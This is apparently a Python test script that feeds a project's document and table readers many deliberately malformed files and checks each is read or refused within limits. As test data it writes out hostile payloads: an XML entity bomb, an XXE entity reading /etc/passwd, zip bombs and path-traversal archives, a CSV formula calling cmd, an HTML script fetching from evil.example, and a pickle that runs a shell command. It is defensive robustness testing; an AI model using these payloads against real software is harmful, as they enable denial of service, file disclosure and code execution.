"""Files made to break a reader: every content under every ending that is read.

`python -m tests.attacks.hostile_files` reads them all, by the functions that the pages call; each is read, or refused in a sentence,
within the time and memory of a reader.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Annotated

import typer

from core.base.files.foreign_files import Limits, read_apart
from core.data.datasets.generic import preview_rows
from core.data.documents.documents import read_document
from core.errors import TouchstoneError

TABLES = (".csv", ".tsv", ".json", ".jsonl", ".xlsx", ".parquet")
DOCUMENTS = (".txt", ".md", ".html", ".docx", ".pdf")
_LIMITS = Limits(seconds=60, megabytes=1024)
_SECONDS = 90.0  # that a file may take in all, on a busy machine
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_ENTITIES = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]><x>&l9;</x>'
_OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def contents() -> dict[str, bytes]:
    """Hostile contents by name, the same each time."""
    rng = random.Random(55)
    row = '{"document": "It rained.", "summary": "Rain fell."}'
    return {
        "nothing": b"",
        "one NUL": b"\0",
        "a mark and nothing": b"\xef\xbb\xbf",
        "UTF-16 cut in a character": "document,summary\nIt rained".encode("utf-16")[:-1],
        "bytes by chance": rng.randbytes(20_000),
        "a line without end": b"x" * 4_000_000,
        "a quote that never closes": b'document,summary\n"' + b"It rained, " * 200_000,
        "quotes alone": b'"' * 1_000_000,
        "many columns": ",".join(f"c{n}" for n in range(100_002)).encode() + b"\n1\n",
        "many keys": ("{" + ",".join(f'"k{n}":1' for n in range(100_000)) + "}\n").encode(),
        "one key many times": ("{" + ",".join('"document":"a"' for _ in range(50_000)) + "}\n").encode(),
        "deep lists": b"[" * 200_000,
        "deep lists that close": b"[" * 50_000 + b"]" * 50_000,
        "deep objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "a number of a million digits": b'[{"document": ' + b"9" * 1_000_000 + b"}]",
        "an exponent without end": b'{"document": 1e99999999, "summary": -1e-99999999}\n',
        "numbers that are none": b'{"document": NaN, "summary": -Infinity}\n',
        "half a character": b'{"document": "\\ud800", "summary": "\\u0000"}\n',
        "a name that is a method": b'{"__class__": {"__init__": 1}, "constructor": 2, "document": "a"}\n',
        "a formula": b'document,summary\n=cmd|\' /C calc\'!A0,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
        "line ends of all kinds": "document\u2028summary\u0085a\x0bb\x0cc\x1cd\r\r\n\n\x1e".encode() * 1000,
        "marks that turn around": "document,summary\n\u202eabc\u2066,\u200b\ufeff\n".encode() * 1000,
        "combining marks without end": b"document,summary\na" + "\u0301".encode() * 500_000 + b",b\n",
        "a script": b"<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>" * 100,
        "deep tags": b"<div>" * 200_000,
        "tags with many attributes": b"<p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">x",
        "a comment that never closes": b"<!--" + b"-" * 1_000_000,
        "entities of entities": _ENTITIES.encode(),
        "an entity of another file": _OUTSIDE.encode(),
        "an archive that unpacks to a gigabyte": _archive({"xl/worksheets/sheet1.xml": b"\0" * 200_000_000}),
        "an archive with a way up": _archive({"../../etc/evil": b"x", "/etc/evil": b"x", "..\\evil": b"x"}),
        "an archive of many files": _archive({f"f{n}": b"" for n in range(20_000)}),
        "an archive of one name twice": _archive_twice(),
        "a cut archive": _archive({"word/document.xml": b"<x/>" * 1000})[:-40],
        "a workbook with entities": _archive({"xl/workbook.xml": _ENTITIES.encode(), "[Content_Types].xml": b"<Types/>"}),
        "a document with entities": _archive({"word/document.xml": _ENTITIES.encode(), "[Content_Types].xml": b"<Types/>"}),
        "a document with another file": _archive({"word/document.xml": _OUTSIDE.encode()}),
        "a document of deep tags": _archive({"word/document.xml": b"<w:p>" * 200_000}),
        "a document of many paragraphs": _archive({"word/document.xml": _paragraphs(300_000)}),
        "a PDF of a few bytes": b"%PDF-1.7\n%%EOF",
        "a PDF whose pages are their own children": _pdf(b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
        "a PDF of a billion pages": _pdf(b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"),
        "a PDF of deep lists": _pdf(b"[" * 100_000),
        "a PDF whose table points at itself": b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f\ntrailer<</Prev 9/Size 1>>\nstartxref\n9\n%%EOF",
        "Parquet of junk": b"PAR1" + rng.randbytes(1000) + struct.pack("<I", 900) + b"PAR1",
        "Parquet with a foot of four gigabytes": b"PAR1" + b"\0" * 100 + struct.pack("<I", 2**32 - 1) + b"PAR1",
        "a pickle": b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
        "a database": b"SQLite format 3\0" + rng.randbytes(4000),
        "compressed": b"\x1f\x8b\x08\0" + rng.randbytes(1000),
        "records after junk": b"\xff\xfe junk\n" + row.encode() * 3,
    }  # fmt: skip


def read_hostile(folder: Path, ending: str, content: bytes) -> str:
    """Outcome of a file with the reader of its ending: read or refused. Raises what is neither."""
    file = folder / f"hostile{ending}"
    file.write_bytes(content)
    try:
        if ending in DOCUMENTS:
            read_document(file.name, content, _LIMITS)
        else:
            list(read_apart(file.name, _LIMITS, _rows, file))
    except TouchstoneError as error:
        return f"refused: {error}"
    return "read"


def _rows(file: Path) -> Iterator[int]:
    yield len(preview_rows(file))


def _archive(files: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return content.getvalue()


def _archive_twice() -> bytes:
    """Two entries of one name, as the library would only write with a warning."""
    content = _archive({"word/document.xml": b"<a/>", "word/documenu.xml": b"<b/>"})
    return content.replace(b"documenu", b"document")


def _paragraphs(number: int) -> bytes:
    space = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return (
        b"<w:document "
        + space
        + b"><w:body>"
        + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * number
        + b"</w:body></w:document>"
    )


def _pdf(pages: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj"
        + pages
        + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def main(
    each: Annotated[int, typer.Option(help="Contents of each ending, drawn by seed; 0 for all.")] = 0,
    seed: Annotated[int, typer.Option(help="Of what is drawn.")] = 0,
    least: Annotated[int, typer.Option(help="Fail where fewer were read.")] = 0,
) -> None:
    counts, wrong, every = Counter[str](), list[str](), contents()
    names = random.Random(seed).sample(list(every), each or len(every))
    with TemporaryDirectory() as folder:
        for ending in (*DOCUMENTS, *TABLES):
            typer.echo(f"{counts.total()} so far; next {ending}", err=True)
            for name in names:
                began = time.monotonic()
                try:
                    verdict = read_hostile(Path(folder), ending, every[name])
                except Exception:  # noqa: BLE001  # what is looked for
                    verdict = f"broken: {traceback.format_exc(limit=-2)}"
                counts[verdict.partition(":")[0]] += 1
                seconds = time.monotonic() - began
                if verdict.startswith("broken") or seconds > _SECONDS:
                    wrong.append(f"{name} as {ending}, {seconds:.0f} s: {verdict}")
                    typer.echo(wrong[-1])
    typer.echo(f"{counts.total()} hostile files: {dict(counts)}, {len(wrong)} broke a reader")
    sys.exit(bool(wrong) or counts.total() < least)


if __name__ == "__main__":
    typer.run(main)
